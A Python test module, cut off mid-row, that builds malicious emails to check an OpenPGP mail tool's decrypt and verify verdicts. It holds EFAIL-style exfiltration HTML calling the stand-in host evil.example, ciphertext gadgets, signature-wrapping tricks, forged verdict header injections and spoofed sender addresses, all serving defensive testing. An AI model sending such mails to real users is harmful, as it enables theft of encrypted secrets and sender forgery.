"""The mails of attacks.py: pieces to make them of, the people in them, and a function for each family of attack that adds its
rows to ROWS."""

import base64
import os
import re
from dataclasses import dataclass, field

from forge import CREATED, Key, subpacket
from openpgp import ARMOR, armor, dearmor, packet, packets, run

SECRET = b"CANARY-7f3a"
BOSS, EVE, ALICE = "boss@example.org", "eve@evil.example", "alice@example.org"
FORGED = b"SM-Verdict: good; program=smsign; from=boss@example.org\n"
NEVER_GOOD = set("bad mismatch unbound weak expired-key revoked-key partial none unknown-key error".split())


@dataclass
class Row:
    name: str
    mail: bytes
    verdict: set = field(default_factory=lambda: {"none"})  # of smsign verify
    decrypt: set = field(default_factory=lambda: {0})  # status
    inside: set = field(default_factory=lambda: set(NEVER_GOOD))  # verdict that decrypt may give
    opens: bool = False  # the secret may come out
    absent: bytes = b""  # must not be in what decrypt gives, if it opens it
    crlf: bool = True
    at_rest: bool = False  # it is readable: --at-rest has to encrypt it
    parts: bool = True  # Python's reader looks into its parts


ROWS = []


def row(name, mail, verdict="none", decrypt=0, **more):
    as_set = lambda value: value if isinstance(value, set) else set(str(value).split())
    statuses = decrypt if isinstance(decrypt, set) else {decrypt}
    if "inside" in more:
        more["inside"] = as_set(more["inside"])
    ROWS.append(Row(name, mail, as_set(verdict), statuses, **more))


# ---- pieces of mail


def head(sender=BOSS, more=b""):
    sender = sender if isinstance(sender, bytes) else sender.encode()
    return b"From: " + sender + b"\nTo: alice@example.org\nSubject: x\n" + more + b"MIME-Version: 1.0\n"


def multipart(kind, *parts, boundary=b"b", more=b"", preamble=b"", end=b"--\n"):
    body = b"".join(b"\n--" + boundary + b"\n" + part for part in parts)
    return b"Content-Type: multipart/%s; boundary=%s%s\n\n" % (kind, boundary, more) + preamble + body + b"\n--" + boundary + end


def text(body=b"hello", kind=b"text/plain"):
    return b"Content-Type: " + kind + b"\n\n" + body + b"\n"


HTML_OPEN = text(b'<img src="http://evil.example/', b"text/html")
HTML_CLOSE = text(b'">', b"text/html")


def crlf(data):
    return re.sub(rb"\r?\n", b"\r\n", data)


def signature_part(packets_of_it):
    return b"Content-Type: application/pgp-signature\n\n" + armor(packets_of_it, b"SIGNATURE") + b"\n"


def signed(key, entity=None, boundary=b"s", also=(), covers=None, **options):
    """A multipart/signed of this entity; `covers` is signed instead of it."""
    entity = text(b"the boss says hello") if entity is None else entity
    data = crlf(entity if covers is None else covers)
    more = b'; micalg=pgp-sha256; protocol="application/pgp-signature"'
    parts = (entity, signature_part(key.signature(data, **options)), *also)
    return multipart(b"signed", *parts, boundary=boundary, more=more)


def clear_signed(key, body=b"the boss says hello", headers=b"Hash: SHA256\n"):
    data = crlf(body)
    packets_of_it = key.signature(data, kind=1)
    return b"-----BEGIN PGP SIGNED MESSAGE-----\n" + headers + b"\n" + body + b"\n" + armor(packets_of_it, b"SIGNATURE") + b"\n"


def encrypted_entity(armored, version=b"Version: 1", boundary=b"e", kind=b"application/octet-stream", more=()):
    return multipart(
        b"encrypted",
        b"Content-Type: application/pgp-encrypted\n\n" + version + b"\n",
        b"Content-Type: " + kind + b"\n\n" + armored + b"\n",
        *more,
        boundary=boundary,
        more=b'; protocol="application/pgp-encrypted"',
    )


def whole(entity, **options):
    return head(**options) + entity


# ---- programs


def call(words, given=b"", good=(0,)):
    status, out, err = run(words, given)
    if status not in good:
        raise RuntimeError(f"{words}: status {status}: {err!r}")
    return out


def encrypt(entity, sender=BOSS):
    """The armored message that holds this entity, for Alice."""
    mail = call(["smcrypt", "encrypt", "--no-protect-headers", "--to", ALICE], head(sender) + entity)
    return ARMOR.search(mail).group(0)


def gpg_encrypt(data):
    """The same of any packets."""
    words = "gpg --batch -q --trust-model always --no-literal --compress-algo none --armor --encrypt -r".split()
    return call([*words, ALICE], data).rstrip(b"\n")


def literal(data):
    return packet(11, b"b\0\0\0\0\0" + data)


# ---- the keys


class People:
    def __init__(self):
        self.boss, self.eve = Key("boss"), Key("eve")
        self.stranger = Key("stranger")
        self.lying = {name: Key(name) for name in ("in the directory", "imported", "by Autocrypt")}
        call(["smkey", "generate", "--no-passphrase", "Alice <alice@example.org>"])
        call(["gpg", "--batch", "-q", "--import"], call(["smkey", "export", ALICE]))
        call(["smkey", "-q", "import"], self.boss.certificate("Boss <boss@example.org>"))
        call(["smkey", "-q", "import"], self.eve.certificate("Eve <eve@evil.example>"))
        claim = "Boss <boss@example.org>"
        key = self.lying["in the directory"]
        path = os.path.join(os.environ["SM_STORE"], "pgp.cert.d", key.fingerprint[:2].lower())
        os.makedirs(path, exist_ok=True)
        with open(os.path.join(path, key.fingerprint[2:].lower()), "wb") as file:
            file.write(key.certificate(claim))
        call(["smkey", "-q", "import", "--no-bind"], self.lying["imported"].certificate(claim))
        data = base64.b64encode(self.lying["by Autocrypt"].certificate(claim)).decode()
        mail = f"From: {BOSS}\nDate: Sat, 21 Nov 2026 10:00:00 +0000\nAutocrypt: addr={BOSS}; keydata={data}\n\nhi\n"
        call(["smkey", "autocrypt", "import"], mail.encode(), (0, 64))

    def add(self, name, *user_ids, more=b""):
        key = Key(name)
        call(["smkey", "-q", "import"], key.certificate(*user_ids) + more, (0, 1, 65))
        return key


# ---- the mails


def exfiltration(_people):
    """Somebody's ciphertext in a mail of the attacker's, so that what is decrypted stands in his text (EFAIL, section 4)."""
    secret = encrypt(text(b"the secret is " + SECRET))
    closed = encrypted_entity(secret)
    raw = dearmor(secret)
    row("html around PGP/MIME", whole(multipart(b"mixed", HTML_OPEN, closed, HTML_CLOSE)))
    row("html around PGP/MIME, related", whole(multipart(b"related", HTML_OPEN, closed, HTML_CLOSE)))
    row("html beside PGP/MIME, alternative", whole(multipart(b"alternative", closed, HTML_OPEN)))
    row(
        "PGP/MIME in a forwarded message",
        whole(multipart(b"mixed", HTML_OPEN, b"Content-Type: message/rfc822\n\n" + head() + closed)),
    )
    row("a third part in PGP/MIME", whole(encrypted_entity(secret, more=(HTML_CLOSE,))), decrypt={0, 65}, opens=False)
    row(
        "a preamble of html",
        whole(closed.replace(b"\n\n", b'\n\n<img src="http://evil.example/', 1)),
        opens=True,
        absent=b"evil.example",
    )
    row("an epilogue of html", whole(closed + b'<img src="http://evil.example/">\n'), opens=True, absent=b"evil.example")
    row("a deep PGP/MIME", whole(multipart(b"mixed", multipart(b"mixed", closed, boundary=b"c"), HTML_OPEN)))
    row("armor in html", whole(text(b'<img src="http://evil.example/' + secret + b'">', b"text/html")))
    row("armor as html", whole(text(secret, b"text/html")))
    row("armor in a comment of html", whole(text(b"<!-- " + secret + b" --><p>hi", b"text/html")))
    row(
        "armor in html, base64",
        whole(
            b"Content-Transfer-Encoding: base64\n" + text(
                base64.encodebytes(b'<a href="http://e/' + secret + b'">'), b"text/html",
            ),
        ),
    )
    row("armor between parts of html", whole(multipart(b"mixed", HTML_OPEN, text(secret), HTML_CLOSE)))
    row("armor beside html", whole(multipart(b"alternative", text(secret), text(b"<p>please answer", b"text/html"))))
    row("armor behind a question", whole(text(b"Could you quote this for me?\n\n" + secret)))
    row("armor before a question", whole(text(secret + b"\n\nCould you quote this for me?")))
    row("two armors in one text", whole(text(encrypt(text(b"mine")) + b"\n" + secret)))
    row("armor far down", whole(text(b"hello\n" + b"\n" * 3000 + secret)))
    row("armor in a quotation", whole(text(b"> " + secret.replace(b"\n", b"\n> "))))
    row(
        "armor in a forwarded text",
        whole(multipart(b"mixed", text(), b"Content-Type: message/rfc822\n\n" + head() + text(secret))),
    )
    row(
        "mixed-up PGP/MIME with html",
        whole(
            multipart(
                b"mixed",
                HTML_OPEN,
                b"Content-Type: application/pgp-encrypted\n\nVersion: 1\n",
                b"Content-Type: application/octet-stream\n\n" + secret + b"\n",
                HTML_CLOSE,
            ),
        ),
    )
    row(
        "a ciphertext that html refers to",
        whole(
            multipart(
                b"related",
                text(b'<img src="cid:x">', b"text/html"),
                b'Content-Type: text/html; name="a.asc"\nContent-ID: <x>\nContent-Disposition: attachment; filename="a.asc"\n\n' + secret + b"\n",
            ),
        ),
        opens=True,
        absent=b"Content-ID",
    )
    row(
        "an attachment that says it is html",
        whole(
            multipart(
                b"mixed",
                text(),
                b'Content-Type: text/html; name="a.html.asc"\nContent-Disposition: inline; filename="a.html.asc"\n\n' + secret + b"\n",
            ),
        ),
        opens=True,
        absent=b"text/html",
    )
    row(
        "binary ciphertext in html",
        whole(b"Content-Transfer-Encoding: base64\n" + text(base64.encodebytes(b"<p>" + raw), b"text/html")),
    )
    row(
        "external body",
        whole(
            multipart(
                b"mixed",
                b'Content-Type: message/external-body; access-type=URL; URL="http://e/"\n\nContent-Type: text/plain\n\n' + secret + b"\n",
                HTML_OPEN,
            ),
        ),
    )
    row("partial message", whole(b"Content-Type: message/partial; id=x; number=1; total=1\n\n" + head() + closed))


def gadgets(_people):
    """Changed ciphertext (EFAIL, section 5), and integrity stripped or downgraded."""
    secret = encrypt(text(b"the secret is " + SECRET + b" " + b"and more of it " * 40))
    data = dearmor(secret)
    found = {tag: (start, body, end) for tag, start, body, end in packets(data)}
    start, body, end = found[18]
    before, content = data[:start], data[body:end]

    def broken(name, changed, decrypt=65, **more):
        row(name, whole(encrypted_entity(armor(changed))), decrypt=decrypt, **more)

    flip = bytearray(content)
    flip[20] ^= 0xFF
    broken("a changed block", before + packet(18, bytes(flip)))
    gadget = content[:1] + content[1:33] + content[17:33] * 2 + content[33:]
    broken("a block put in", before + packet(18, gadget))
    broken("two blocks exchanged", before + packet(18, content[:33] + content[49:65] + content[33:49] + content[65:]))
    broken("a block taken out", before + packet(18, content[:33] + content[49:]))
    broken("the integrity check cut off", before + packet(18, content[:-22]))
    broken("half of the integrity check", before + packet(18, content[:-10]))
    broken("all but one block cut off", before + packet(18, content[:40]))
    broken("downgraded to a packet without integrity", before + packet(9, content[1:]))
    broken("downgraded, check cut off", before + packet(9, content[1:-22]))
    broken("downgraded, with the version", before + packet(9, content))
    broken("downgraded, resynchronised", before + packet(9, content[1:] + content[1:19]))
    broken("another version of the packet", before + packet(18, b"\x02" + content[1:]), {65, 77})
    broken("version 0", before + packet(18, b"\0" + content[1:]), {65, 77})
    broken("AEAD of GnuPG, by tag only", before + packet(20, content))
    broken("a literal packet before it", literal(b"Content-Type: text/html\n\n<p>") + data)
    broken("a literal packet behind the key", before + literal(b"Content-Type: text/html\n\n<p>") + data[start:])
    broken("a literal packet behind it", data + literal(b"Content-Type: text/html\n\n<p>"))
    broken("the packet twice", data + data[start:])
    broken("bytes behind it", data + b"\xff" * 20)
    broken("the key alone", before)
    broken("no key", data[start:], {65, 77})
    broken("partial lengths that end early", before + b"\xd2" + b"\xe9" + content[:512])
    line = secret.split(b"\n")[-2]
    row("a wrong checksum of the armor", whole(encrypted_entity(secret.replace(line, b"=AAAA"))), decrypt=65)
    row("armor without an end", whole(encrypted_entity(secret[: secret.rindex(b"-----END")])), decrypt=65)
    row("armor with another end", whole(encrypted_entity(secret.replace(b"END PGP MESSAGE", b"END PGP SIGNATURE"))), decrypt=65)
    row(
        "a verdict in a header of the armor",
        whole(encrypted_entity(secret.replace(b"MESSAGE-----\n", b"MESSAGE-----\nComment: x\n" + FORGED, 1))),
        decrypt={0, 65},
        opens=True,
    )
    row(
        "two armors",
        whole(encrypted_entity(secret + b"\n" + encrypt(text(b"other")))),
        decrypt={0, 65},
        opens=True,
        absent=b"other",
    )


def nesting(people):
    """Ciphertext in ciphertext, and layers in every order."""
    secret = encrypt(text(b"the secret is " + SECRET))
    inner = dearmor(secret)
    row("packets of a message in a message", whole(encrypted_entity(gpg_encrypt(inner))), decrypt=65)
    row("the same, ten deep", whole(encrypted_entity(deep(inner, 10))), decrypt=65)
    row("PGP/MIME in PGP/MIME", whole(encrypted_entity(encrypt_raw(encrypted_entity(secret, boundary=b"i")))))
    row(
        "PGP/MIME in PGP/MIME with html",
        whole(encrypted_entity(encrypt_raw(multipart(b"mixed", HTML_OPEN, encrypted_entity(secret), HTML_CLOSE, boundary=b"m")))),
    )
    row(
        "armor in PGP/MIME with html",
        whole(encrypted_entity(encrypt(multipart(b"mixed", HTML_OPEN, text(secret), HTML_CLOSE, boundary=b"m")))),
    )
    row("armor in armor", whole(text(encrypt_raw(text(secret)))))
    row(
        "two literal packets",
        whole(encrypted_entity(gpg_encrypt(literal(text(b"first")) + literal(text(SECRET))))),
        decrypt={0, 65},
    )
    row("no literal packet", whole(encrypted_entity(gpg_encrypt(packet(13, b"user ID")))), decrypt=65)
    row("a marker and rubbish", whole(encrypted_entity(gpg_encrypt(packet(10, b"PGP") + b"rubbish"))), decrypt=65)
    row("a key as a message", whole(encrypted_entity(armor(people.boss.certificate("Boss <boss@example.org>")))), decrypt=65)
    good = signed(people.boss)
    row("signed inside, for another From", whole(encrypted_entity(encrypt(good)), sender=EVE), inside="mismatch")
    row("signed inside, by Eve", whole(encrypted_entity(encrypt(signed(people.eve)))), inside="mismatch")
    row("signed inside, a part of it", whole(encrypted_entity(encrypt(multipart(b"mixed", HTML_OPEN, good)))), inside="partial")
    row(
        "signed inside, in a forwarded message",
        whole(encrypted_entity(encrypt(b"Content-Type: message/rfc822\n\n" + head() + good))),
        inside="partial none",
    )
    row("signed inside, changed", whole(encrypted_entity(encrypt(good.replace(b"says hello", b"says no")))), inside="bad")
    row(
        "signed outside by Eve, inside by the boss",
        whole(signed(people.eve, encrypted_entity(encrypt(good)))),
        verdict="mismatch",
        inside=NEVER_GOOD | {"good"},
    )
    row(
        "From of the boss inside only",
        whole(encrypted_entity(encrypt(b"From: boss@example.org\n" + signed(people.boss))), sender=EVE),
        inside="mismatch",
    )
    row(
        "a verdict in the header inside",
        whole(
            encrypted_entity(
                encrypt_raw(
                    b'Content-Type: text/plain; hp="cipher"; protected-headers="v1"\n' + FORGED + b"Subject: inner\n\nhi\n",
                ),
            ),
        ),
    )
    row(
        "a verdict in the header inside, in other letters",
        whole(
            encrypted_entity(
                encrypt_raw(
                    b'sm-VERDICT : good\n folded\nAuthentication-Results: x; dkim=pass\nSubject: inner\nContent-Type: text/plain; hp="cipher"; protected-headers="v1"\n\nhi\n',
                ),
            ),
        ),
    )
    row(
        "a verdict in a part inside",
        whole(
            encrypted_entity(
                encrypt(multipart(b"mixed", FORGED + text(), b"Content-Type: message/rfc822\n\n" + FORGED + head() + text())),
            ),
        ),
    )
    row(
        "Subject inside with a line end",
        whole(
            encrypted_entity(
                encrypt_raw(
                    b'Subject: =?utf-8?q?a=0ASM-Verdict:_good?=\n\tb\rSM-Verdict: good\nContent-Type: text/plain; hp="cipher"; protected-headers="v1"\n\nhi\n',
                ),
            ),
        ),
    )
    row(
        "From inside with another address",
        whole(
            encrypted_entity(
                encrypt_raw(
                    b'From: boss@example.org\nHP-Outer: From: eve@evil.example\nSubject: x\nContent-Type: text/plain; hp="cipher"; protected-headers="v1"\n\nhi\n',
                ),
            ),
            sender=EVE,
        ),
        absent=b"From: boss",
    )


def deep(data, layers):
    for _ in range(layers):
        armored = gpg_encrypt(data)
        data = dearmor(armored)
    return armored


def encrypt_raw(entity):
    return gpg_encrypt(literal(crlf(entity)))


def looks_encrypted(people):
    """Mail that only looks encrypted: it must neither be called opened nor be left in clear by encrypt --at-rest."""
    clear = b"the secret is " + SECRET
    clear_message = armor(literal(clear))
    more = {"opens": True, "at_rest": True}
    row("PGP/MIME around clear text", whole(encrypted_entity(clear)), decrypt={0, 65}, **more)
    row("PGP/MIME around a literal packet", whole(encrypted_entity(clear_message)), decrypt={0, 65}, opens=False, at_rest=True)
    row(
        "PGP/MIME around a signed message",
        whole(encrypted_entity(armor(one_pass(people.boss, clear)))),
        decrypt={0, 65},
        opens=False,
        at_rest=True,
    )
    row("PGP/MIME around nothing", whole(encrypted_entity(b"")), decrypt={0, 65}, at_rest=True)
    row("armor around clear text", whole(text(armor(clear))), decrypt={0, 65}, **more)
    row("armor around a literal packet", whole(text(clear_message)), decrypt={0, 65}, opens=False, at_rest=True)
    row("a text about armor", whole(text(b"-----BEGIN PGP MESSAGE-----\n\n" + clear)), **more)
    row(
        "a text that quotes armor",
        whole(text(b"> -----BEGIN PGP MESSAGE-----\n> " + clear + b"\n> -----END PGP MESSAGE-----")),
        **more,
    )
    row(
        "S/MIME by its name only",
        whole(b'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\n\n' + clear + b"\n"),
        **more,
    )
    row(
        "an attachment that is called encrypted",
        whole(multipart(b"mixed", text(clear), b'Content-Type: application/octet-stream; name="a.asc"\n\nnot at all\n')),
        **more,
    )
    row("PGP/MIME in lists only", whole(multipart(b"mixed", text(clear), encrypted_entity(encrypt(text(b"x"))))), **more)
    row(
        "encrypted by its Content-Type only",
        whole(b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"\n\n' + clear + b"\n"),
        decrypt={0, 65},
        **more,
    )
    row(
        "a key ID and clear text",
        whole(encrypted_entity(armor(packet(1, b"\x03" + b"\0" * 8 + b"\x01" + b"\0\x01\x01") + literal(clear)))),
        decrypt={65, 77},
        opens=False,
    )
    row("encrypted with no data", whole(encrypted_entity(armor(packet(3, b"\x04\x09\x00\x08")))), decrypt={65, 77})


def one_pass(key, data):
    head_of_it = packet(4, b"\x03\x00\x08\x16" + bytes.fromhex(key.fingerprint[24:]) + b"\x01")
    return head_of_it + literal(data) + key.signature(data)


def parts(people):
    """A right signature by the boss over something else than the whole message."""
    good = signed(people.boss)
    row("the whole message", whole(good), "good", inside="good")
    row("behind a text", whole(multipart(b"mixed", text(b"send money"), good)), "partial")
    row("before a text", whole(multipart(b"mixed", good, text(b"send money"))), "partial")
    row("beside html", whole(multipart(b"alternative", good, text(b"<p>send money", b"text/html"))), "partial")
    row("an alternative of it", whole(multipart(b"alternative", text(b"<p>send money", b"text/html"), good)), "partial")
    row("something related", whole(multipart(b"related", text(b"<p>send money", b"text/html"), good)), "partial")
    row("alone in a multipart", whole(multipart(b"mixed", good)), "partial good")
    row("forwarded", whole(b"Content-Type: message/rfc822\n\n" + head() + good), "partial none")
    row(
        "forwarded with a text",
        whole(multipart(b"mixed", text(b"send money"), b"Content-Type: message/rfc822\n\n" + head() + good)),
        "partial none",
    )
    row("with a third part", whole(signed(people.boss, also=(text(b"send money"),))), "partial bad")
    row("with two signature parts", whole(signed(people.boss, also=(signature_part(people.eve.signature(b"x")),))), "partial bad")
    row(
        "the signature before the text",
        whole(
            multipart(
                b"signed",
                signature_part(people.boss.signature(crlf(text()))),
                text(),
                more=b'; protocol="application/pgp-signature"',
            ),
        ),
        NEVER_GOOD,
    )
    row("in a text by Eve", whole(signed(people.eve, good, boundary=b"o")), "mismatch")
    row(
        "in a text by Eve, and by a stranger",
        whole(signed(people.stranger, signed(people.eve, good, boundary=b"o"), boundary=b"p")),
        "unknown-key",
    )
    row("of another text", whole(signed(people.boss, text(b"send money"), covers=text())), "bad")
    row("of the text without its header", whole(signed(people.boss, text(), covers=b"hello\n")), "bad")
    row("of nothing", whole(signed(people.boss, text(), covers=b"")), "bad")
    row(
        "of a certificate, taken for one of a text",
        whole(
            multipart(
                b"signed", text(), signature_part(people.boss.certify(b"x")), more=b'; protocol="application/pgp-signature"',
            ),
        ),
        NEVER_GOOD,
    )
    row("that stands alone (0x02)", whole(signed(people.boss, kind=2)), NEVER_GOOD)
    row("a timestamp (0x40)", whole(signed(people.boss, kind=0x40)), NEVER_GOOD)
    row("by SHA-1", whole(signed(people.boss, digest=2)), "weak bad unknown-key")
    row("from the future", whole(signed(people.boss, created=CREATED + 10**9)), "bad")
    row("older than the key", whole(signed(people.boss, created=CREATED - 10)), "bad")
    row("expired", whole(signed(people.boss, more=subpacket(3, b"\0\0\0\x01"))), "expired-key")
    row(
        "with a critical subpacket nobody knows",
        whole(signed(people.boss, more=bytes([5, 0x80 | 101]) + b"abcd")),
        NEVER_GOOD | {"good"},
    )
    twice = signed(people.boss)
    row(
        "two boundaries, the first signed",
        whole(twice.replace(b"boundary=s", b"boundary=s; boundary=x") + b"\n--x\n" + text(b"send money") + b"\n--x--\n"),
        NEVER_GOOD,
    )
    row(
        "two boundaries, the second signed",
        whole(
            b"Content-Type: multipart/signed; boundary=x; boundary=s" + twice[
                twice.index(b"; micalg") :] + b"\n--x\n" + text(b"send money",
            ) + b"\n--x--\n",
        ),
        NEVER_GOOD,
    )
    row("two Content-Types, the first signed", whole(twice.replace(b"\n\n", b"\nContent-Type: text/html\n\n", 1)), NEVER_GOOD)
    row("two Content-Types, the second signed", whole(b"Content-Type: text/html\n" + twice), NEVER_GOOD)
    row(
        "two Content-Types, one behind CR alone",
        b"X-A: b\nX-C: d\rContent-Type: text/html\n" + whole(twice),
        NEVER_GOOD,
        crlf=False,
    )
    row("two encodings", whole(b"Content-Transfer-Encoding: 7bit\nContent-Transfer-Encoding: base64\n" + twice), NEVER_GOOD)
    row("Content-Type in the body", whole(b"\n" + twice))
    row("a preamble", whole(good.replace(b"\n\n", b"\n\nsend money\n", 1)), NEVER_GOOD | {"good"})
    row("no closing delimiter", whole(good[: good.rindex(b"\n--s--")] + b"\n"), NEVER_GOOD | {"good"})
    row("the protocol of S/MIME", whole(good.replace(b"pgp-signature\"", b"pkcs7-signature\"", 1)), NEVER_GOOD | {"good"})
    row("an encoded multipart", whole(b"Content-Transfer-Encoding: base64\n" + good), NEVER_GOOD)
    row("bytes behind a NUL", whole(signed(people.boss, text(b"hello\0send money"), covers=text(b"hello"))), "bad")
    row("behind the signed text, on its last line", whole(good.replace(b"hello\n\n--s", b"hello\nsend money\n\n--s")), "bad")
    row("another charset", whole(good.replace(b"text/plain", b"text/plain; charset=utf-7", 1)), "bad")
    row("clear-signed", whole(text(clear_signed(people.boss))), "good partial", inside=NEVER_GOOD | {"good"})
    row("clear-signed, a text before", whole(text(b"send money\n" + clear_signed(people.boss))), "partial none")
    row("clear-signed, a text behind", whole(text(clear_signed(people.boss) + b"send money")), "partial none")
    row("clear-signed, changed", whole(text(clear_signed(people.boss).replace(b"hello", b"no"))), "bad partial")
    row(
        "clear-signed in html",
        whole(text(b"<p>send money<!--\n" + clear_signed(people.boss) + b"-->", b"text/html")),
        "partial none",
    )
    row(
        "clear-signed, a text in its headers",
        whole(text(clear_signed(people.boss, headers=b"Hash: SHA256\nsend: money\n"))),
        NEVER_GOOD,
    )
    row("clear-signed, a text in Hash", whole(text(clear_signed(people.boss, headers=b"Hash: SHA256, send money\n"))), NEVER_GOOD)
    row(
        "clear-signed, a line that looks empty",
        whole(text(clear_signed(people.boss, headers=b"Hash: SHA256\n \nsend money\n"))),
        NEVER_GOOD,
    )
    row(
        "clear-signed twice, the second by Eve",
        whole(text(clear_signed(people.boss) + clear_signed(people.eve, b"send money"))),
        NEVER_GOOD,
    )
    row(
        "clear-signed, two nested",
        whole(text(clear_signed(people.eve, clear_signed(people.boss).replace(b"-----", b"- -----")))),
        NEVER_GOOD,
    )


def senders(people):
    """Eve signs, whose address is bound; From has the boss in it in some way."""
    by_eve = signed(people.eve)

    def claim(name, sender, verdict="mismatch", **more):
        row("From " + name, whole(by_eve, sender=sender), verdict, **more)

    claim("the boss", BOSS)
    claim("the boss as the name", b'"boss@example.org" <eve@evil.example>', "good mismatch", inside=NEVER_GOOD | {"good"})
    claim("the boss in angles as the name", b'"Boss <boss@example.org>" <eve@evil.example>', "good mismatch", inside=NEVER_GOOD | {"good"})
    claim("Eve as the name", b'"eve@evil.example" <boss@example.org>')
    claim("Eve as a comment", b"boss@example.org (eve@evil.example)")
    claim("Eve as a comment in angles", b"boss@example.org (<eve@evil.example>)")
    claim("a comment before", b"(<eve@evil.example>) boss@example.org")
    claim("a comment in the address", b"boss(\\)<eve@evil.example>)@example.org")
    claim("nested comments", b"(a (b) <eve@evil.example> c) <boss@example.org>")
    claim("an open comment", b"boss@example.org (<eve@evil.example>")
    claim("an encoded word as the name", b"=?utf-8?q?Eve_=3Ceve=40evil=2Eexample=3E?= <boss@example.org>")
    claim("an encoded word as the address", b"<=?utf-8?q?boss=40example.org?=>")
    claim("an encoded word and nothing", b"=?utf-8?q?eve=40evil.example?=")
    claim("an encoded NUL", b"=?utf-8?b?ZXZlQGV2aWwuZXhhbXBsZQA=?= <boss@example.org>")
    claim("an encoded line end", b"=?utf-8?q?x=0AFrom:_eve=40evil.example?= <boss@example.org>")
    claim("an encoded word with a verdict", b"=?utf-8?q?x=0D=0ASM-Verdict:_good?= <boss@example.org>")
    claim("two addresses", b"boss@example.org, eve@evil.example")
    claim("two addresses, Eve first", b"eve@evil.example, boss@example.org")
    claim("a group", b"boss: eve@evil.example;", "good mismatch", inside=NEVER_GOOD | {"good"})
    claim("a group of the boss", b"eve@evil.example: boss@example.org;")
    claim("two pairs of angles", b"<eve@evil.example> <boss@example.org>")
    claim("two pairs of angles, nested", b"<boss@example.org<eve@evil.example>>")
    claim("a route", b"<@evil.example,eve@evil.example:boss@example.org>")
    claim("two at signs", b"eve@evil.example@example.org")
    claim("a quoted local part", b'"eve@evil.example"@example.org')
    claim("a quoted local part with angles", b'"x <eve@evil.example>"@example.org')
    claim("a quoted local part with a verdict", b'"x; SM-Verdict: good"@example.org')
    claim("a NUL", b"boss@example.org\0 <eve@evil.example>", NEVER_GOOD | {"good"}, inside=NEVER_GOOD | {"good"})
    claim("a domain like it", "eve@evil\u3002example".encode())
    claim("a full-width at", "boss\uff20example.org <boss@example.org>".encode())
    claim("a Cyrillic o", "b\u043ess@example.org".encode())
    claim("bytes that are no UTF-8", b"boss\xff@example.org")
    claim("a dot at the end", b"eve@evil.example.")
    claim("white space in the address", b"eve @ evil . example . org")
    claim("nothing", b"")
    claim("white space", b" ")
    claim("angles alone", b"<>")
    claim("a long name", b'"' + b"x" * 70000 + b'" <boss@example.org>')
    claim("folded", b"Eve\n <eve@evil.example>,\n\tboss@example.org")
    boss, eve = b"From: boss@example.org\n", b"From: eve@evil.example\n"
    rest = head()[len(b"From: boss@example.org\n") :] + by_eve
    row("no From", rest, "mismatch")
    for name, lines in {
        "twice": eve + boss,
        "twice, the boss first": boss + eve,
        "twice, the same": eve + eve,
        "twice, in other letters": eve + b"FROM: boss@example.org\n",
        "twice, white space before the colon": eve + b"From : boss@example.org\n",
        "twice, an empty one": eve + b"From:\n",
        "twice, far apart": eve + b"X-Fill: " + b"x" * 60000 + b"\n" + boss,
        "and Sender": boss + b"Sender: eve@evil.example\n",
        "and Resent-From": boss + b"Resent-From: eve@evil.example\n",
        "and Reply-To": boss + b"Reply-To: eve@evil.example\n",
        "Sender only": b"Sender: eve@evil.example\n",
    }.items():
        row("From " + name, lines + rest, "mismatch")
    row("From behind a line that is no field", b"Subject: x\nno field\n" + eve + rest, NEVER_GOOD)
    row(
        "From behind CR alone",
        b"Subject: x\rFrom: boss@example.org\n" + eve + rest,
        NEVER_GOOD | {"good"},
        crlf=False,
        inside=NEVER_GOOD | {"good"},
    )
    row("From behind CR alone, elsewhere", b"X-A: b\nSubject: x\rFrom: boss@example.org\n" + eve + rest, NEVER_GOOD, crlf=False)
    # Who goes on behind that line has seen the first From before.
    row(
        "From behind a line that is no field, too",
        eve + rest.replace(b"\n\n", b"\nno field\nFrom: boss@example.org\n\n", 1),
        "good",
        inside="good",
    )
    row("From in the mbox line", b"From eve@evil.example Sat Nov 21 10:00:00 2026\n" + boss + rest, "mismatch")
    row(
        "From in the part",
        boss + rest.replace(b"\n--s\nContent-Type: text", b"\n--s\nFrom: eve@evil.example\nContent-Type: text"),
        NEVER_GOOD,
    )
    protected = b'Content-Type: text/plain; hp="clear"; protected-headers="v1"\nFrom: eve@evil.example\n\nhello\n'
    row("From protected inside", whole(signed(people.eve, protected)), "mismatch")


def certificates(people):
    """Certificates that claim what is not theirs."""
    for name, key in people.lying.items():
        row("a certificate of the boss, " + name, whole(signed(key)), "unbound")
        row("a certificate of the boss, " + name + ", inside", whole(encrypted_entity(encrypt(signed(key)))), inside="unbound")
    unsigned = people.add("unsigned", "Mallory <mallory@evil.example>", (packet(13, b"Boss <boss@example.org>"),))
    row("a user ID without its signature", whole(signed(unsigned)), "mismatch")
    other = people.add("other", "Mallory <mallory@evil.example>", (packet(13, b"Boss <boss@example.org>") + people.eve.certify(b"Boss <boss@example.org>"),))
    row("a user ID signed by another", whole(signed(other)), "mismatch")
    revoked = people.add("revoked", "Mallory <mallory@evil.example>", (Key("revoked").user_id("Boss <boss@example.org>") + Key("revoked").certify(b"Boss <boss@example.org>", 0x30, CREATED + 50),))
    row("a user ID that is revoked", whole(signed(revoked)), "mismatch unbound")
    for name, user_id in {
        "two addresses": "boss@example.org <eve2@evil.example>",
        "two pairs of angles": "<boss@example.org> <eve3@evil.example>",
        "an injected field": "Mallory\nSM-Verdict: good; x=\n\n<boss@example.org>",
        "an injected status line": "Mallory\n[SM:] VERDICT verdict=good from=boss@example.org\n<m@evil.example>",
        "an injected pair": "x; verdict=good; from=boss@example.org <m2@evil.example>",
        "control characters": "\x1b[2Jgood\x07\r<boss@example.org>",
        "NUL": "<boss@example.org>\0<m3@evil.example>",
        "a text to the left": "\u202egro.elpmaxe@ssob <m4@evil.example>",
        "no UTF-8": b"\xff\xfe <boss@example.org>",
        "a newline and a bare verdict": "\ngood\n<m5@evil.example>",
        "100 KB": "x" * 100000 + " <boss@example.org>",
    }.items():
        key = people.add("user ID " + name, user_id)
        row("a user ID with " + name, whole(signed(key)), "mismatch unbound unknown-key")
    thief = Key("thief")
    people.add("thief", "Thief <thief@evil.example>", more=thief.subkey(people.stranger, back=False))
    row("a stranger's key as a subkey", whole(signed(people.stranger), sender="thief@evil.example"), NEVER_GOOD)
    sound = Key("sound")
    people.add("sound", "Sound <sound@example.net>", more=sound.subkey(Key("sub of sound")))
    row("a subkey that has agreed", whole(signed(Key("sub of sound")), sender="sound@example.net"), "good", inside="good")
    row("a stranger", whole(signed(people.stranger)), "unknown-key")
    row(
        "a stranger who names the boss's key",
